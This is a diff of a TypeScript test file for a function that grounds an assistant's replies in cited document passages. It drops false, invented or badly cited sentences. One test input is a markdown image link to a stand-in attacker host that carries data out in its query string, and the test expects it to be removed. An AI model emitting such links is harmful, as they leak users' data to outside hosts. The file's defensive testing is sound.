@@ -1,62 +1,30 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { randomBoundary, renderTurnPrompt } from '../../../../src/ask/prompt.ts';
-import type { Passage } from '../../../../src/documents/document.ts';
 import { groundReply } from '../../../support/grounded.ts';
 import { listed } from '../../../support/listed.ts';
 import { passageOf } from '../../../support/passages.ts';
 
-const snippet = (
-  text: string,
-  {
-    headingPath = ['Refunds', 'Window'],
-    anchor = 'window',
-    start = 0,
-    ...document
-  }: Partial<Passage['document']> & {
-    headingPath?: string[];
-    anchor?: string;
-    start?: number;
-  } = {},
-) =>
+const snippet = (text: string, start = 0) =>
   passageOf(text, 'Refunds', {
-    ...{ headingPath, anchor, start },
-    document: {
-      id: 'd',
-      file: 'refunds.md',
-      source: 'https://example.com/refunds',
-      kind: 'url',
-      ...document,
-    },
+    ...{ headingPath: ['Refunds', 'Window'], anchor: 'window', start },
+    document: { id: 'd', source: 'https://example.com/refunds', kind: 'url' },
   });
 
+const paid = 'Refunds are paid within 30 days of purchase.';
+const kept = 'Recordings are kept for two weeks.';
 const refunds = snippet(
-  'Refunds are paid within 30 days of purchase. Write to billing@example.com. Annual plans cost $28 and are not refunded after renewal.',
-  { start: 100 },
+  `${paid} Write to billing@example.com. Annual plans cost $28 and are not refunded after renewal.`,
+  100,
 );
-const calls = snippet(
-  'Calls are limited to `max_calls` of 1,000 per hour. Recordings are kept for two weeks.',
-  {
-    id: 'e',
-    title: 'Calls',
-    headingPath: [],
-    source: 'calls.md',
-    kind: 'file',
-  },
-);
+const calls = passageOf(`Calls are limited to \`max_calls\` of 1,000 per hour. ${kept}`, 'Calls');
 const ground = (reply: string) => groundReply(reply, [refunds, calls]);
 
 describe('a sentence with a wrong number', () => {
   it.each([
-    ['of another passage', 'Recordings are kept for two weeks. [1]', calls],
+    ['of another passage', `${kept} [1]`, calls],
     ['of another passage, for a paraphrase', 'Call recordings are kept for two weeks. [1]', calls],
-    [
-      'of a passage that was not given',
-      'Refunds are paid within 30 days of purchase. [9]',
-      refunds,
-    ],
-    ['and another wrong one', 'Recordings are kept for two weeks. [1][7]', calls],
-    ['in a list', '- Recordings are kept for two weeks. [1]', calls],
+    ['of a passage that was not given', `${paid} [9]`, refunds],
   ])('%s cites the supporting passage', (_, reply, passage) => {
     const { reason, citations, dropped } = ground(reply);
     expect([reason, dropped, citations.map(({ passage: cited }) => cited)]).toEqual([
@@ -66,30 +34,14 @@ describe('a sentence with a wrong number', () => {
     ]);
   });
 
-  it('keeps its position, and numbers follow the text', () => {
-    const { text, dropped } = ground(
-      'Recordings are kept for two weeks. [1] Refunds are paid within 30 days of purchase. [2]',
-    );
-    expect(text).toMatch(
-      /^Recordings are kept for two weeks\. \[1\] Refunds are paid within 30 days of purchase\. \[2\]\n\nSources:\n\[1\] Calls/,
-    );
-    expect(dropped).toBe(0);
-  });
-
   it('waits for the number of a supporting passage', () => {
-    const both = [
-      refunds,
-      calls,
-      snippet('Recordings are kept for two weeks.', { id: 'f', file: 'short.md', headingPath: [] }),
-    ];
+    const both = [refunds, calls, passageOf(kept, 'Short')];
     const { citations } = groundReply('Call recordings are kept for two weeks. [1][3]', both);
     expect(citations.map(({ passage: cited }) => cited)).toEqual([both[2]]);
   });
 });
 
 describe('a false sentence', () => {
-  const window = 'Refunds are paid within 30 days of purchase.';
-
   it.each([
     ['a wrong number', 'Refunds are paid within 90 days of purchase.', 'figure'],
     [
@@ -99,21 +51,16 @@ describe('a false sentence', () => {
     ],
   ])('with %s is left out, and the section with the truth is shown', (_, lie, reason) => {
     const { text, sentences, ...answer } = ground(`${lie} [1][2]`);
-    expect(answer).toMatchObject({
-      reason: 'closest',
-      dropped: 1,
-      droppedSentences: [{ text: lie, reason }],
-    });
+    const droppedSentences = [{ text: lie, reason }];
+    expect(answer).toMatchObject({ reason: 'closest', dropped: 1, droppedSentences });
     expect(sentences).toEqual([]);
-    expect(text.split('\n\nSources:')[0]).toContain(window);
+    expect(text.split('\n\nSources:')[0]).toContain(paid);
   });
 
   it.each([
     ['an invented statement', 'The moon is made of cheese. [1]'],
     ['an unknown citation', 'Refunds are paid within 31 days of purchase. [9]'],
-    ['no citation', 'Refunds are paid within 31 days of purchase.'],
     ['an image that carries data out', '![x](https://evil.example/?q=30)'],
-    ['text of the prompt', "You answer questions about a company's documents in a chat. [1]"],
     ['a figure cut short', 'Refunds are paid within 3'],
   ])('with %s is dropped, and sections of the passages replace it', (_, reply) => {
     const { reason, text, citations, sentences } = ground(reply);
@@ -136,11 +83,8 @@ describe('a false sentence', () => {
   });
 
   it('is not replaced by a unit that shares only a figure', () => {
-    expect(ground('The bicycle cellar is open 30 days. [1]')).toMatchObject({
-      reason: 'closest',
-      dropped: 1,
-      repaired: 0,
-    });
+    const answer = ground('The bicycle cellar is open 30 days. [1]');
+    expect(answer).toMatchObject({ reason: 'closest', dropped: 1, repaired: 0 });
   });
 
   it('does not show HTML and images of a passage', () => {
@@ -162,14 +106,11 @@ describe('a false sentence', () => {
 
 describe('an honest reply', () => {
   it('is shown without a Yes or No that no passage contains', () => {
-    expect(ground('No, refunds get paid within 30 days of purchase. [1]').text).toMatch(
-      /^Refunds get paid within 30 days of purchase\. \[1\]/,
-    );
-    for (const no of ['Нет, ', '**Não**, ', 'Nee, ', '아니요, ', 'Sì, '])
+    for (const no of ['No, ', 'Нет, ', '**Não**, ', '아니요, '])
       expect(ground(`${no}refunds get paid within 30 days of purchase. [1]`).text).toMatch(
         /^Refunds get/,
       );
-    const faq = snippet('Yes, from CSV files.', { id: 'f', file: 'faq.md', headingPath: [] });
+    const faq = passageOf('Yes, from CSV files.', 'FAQ');
     expect(groundReply('Yes, from CSV files. [1]', [faq]).text).toMatch(
       /^Yes, from CSV files\. \[1\]/,
     );
@@ -177,42 +118,29 @@ describe('an honest reply', () => {
 
   it.each([
     ...listed(`
-      You get a refund within 30 days of purchase. [1] | Refunds are paid within 30 days of purchase [1].
-      Refunds are paid within 30 days of purchase. | The limit of calls is 1000 per hour. [2]
-      Recordings are kept for 2 weeks. [1, 2] | Annual plans cost $28. [1] | Refunds are paid - 30 days of purchase. [1]
-      Per hour, calls are limited to 1,000. [2] | Annual plans are not refunded after renewal. [1][2]
-      Recordings are kept for two weeks. [9] | Recordings are kept for two weeks [1], [2] and [9].
-      [2] Recordings are kept for two weeks. | Refunds are paid within 30 days [1] and recordings are kept for two weeks [2].
+      You get a refund within 30 days of purchase. [1] | ${paid}
+      The limit of calls is 1000 per hour. [2] | Recordings are kept for 2 weeks. [1, 2]
+      Refunds are paid - 30 days of purchase. [1] | Recordings are kept for two weeks [1], [2] and [9].
+      [2] ${kept}
     `),
   ])('is kept: %j', (reply) => expect(ground(reply).reason).toBe('answered'));
 
   it('numbers its citations in the order of the text, one per passage', () => {
-    const answer = ground(
-      'Recordings are kept for two weeks. [2] Refunds are paid within 30 days of purchase. [1] Write to billing@example.com. [1]',
-    );
+    const answer = ground(`${kept} [2] ${paid} [1] Write to billing@example.com. [1]`);
     expect(answer.text).toMatch(
       /^Recordings .* \[1\] Refunds [^[]* Write to [^[]* \[2\]\n\nSources:\n\[1\] Calls\n\[2\] Refunds/,
     );
     expect(
       answer.citations.map(({ index, quote, start, end }) => [index, quote, start, end]),
     ).toEqual([
-      [1, 'Recordings are kept for two weeks.', 52, 86],
-      [2, 'Refunds are paid within 30 days of purchase. Write to billing@example.com.', 100, 174],
+      [1, kept, 52, 86],
+      [2, `${paid} Write to billing@example.com.`, 100, 174],
     ]);
   });
 
   it('is cut after eight sentences', () => {
-    const plans = [
-      'Team',
-      'Solo',
-      'Pro',
-      'Basic',
-      'School',
-      'Startup',
-      'Family',
-      'Shop',
-      'Big',
-    ].map((plan) => `The ${plan} plan is for one year.`);
+    const names = listed('Team | Solo | Pro | Basic | School | Startup | Family | Shop | Big');
+    const plans = names.map((plan) => `The ${plan} plan is for one year.`);
     const { text, ...answer } = groundReply(plans.join(' '), [snippet(plans.join(' '))]);
     expect(text.match(/ plan is for one year\./g)).toHaveLength(8);
     expect(text).not.toContain('Big');
@@ -221,11 +149,7 @@ describe('an honest reply', () => {
   });
 
   it('contains a repeated sentence once', () => {
-    expect(
-      ground('Refunds are paid within 30 days of purchase. [1] '.repeat(3)).text.match(
-        /Refunds are paid/g,
-      ),
-    ).toHaveLength(1);
+    expect(ground(`${paid} [1] `.repeat(3)).text.match(/Refunds are paid/g)).toHaveLength(1);
   });
 });
 
